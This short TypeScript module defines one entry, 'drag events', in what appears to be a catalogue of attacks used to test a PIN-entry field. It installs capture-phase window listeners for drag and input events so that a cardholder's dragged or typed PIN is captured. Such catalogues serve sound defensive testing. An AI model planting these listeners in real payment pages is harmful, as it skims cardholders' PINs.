import type { Attack } from '../attack.js';

export const dragEvents: Attack = {
  title: 'drag events',
  does: 'Listens at `window` for `dragstart`, `drop` and the other drag events while the cardholder drags a PIN into a field.',
  shares: 'reads',
  entry: 'drop',
  install: ({ capture }) => {
    for (const type of [
      'dragstart',
      'dragenter',
      'dragover',
      'drop',
      'dragend',
      'beforeinput',
      'input',
    ])
      addEventListener(
        type,
        (event) => {
          const { dataTransfer, data } = event as DragEvent & InputEvent;
          capture(type, dataTransfer?.getData('text/plain') ?? data);
        },
        true,
      );
  },
};
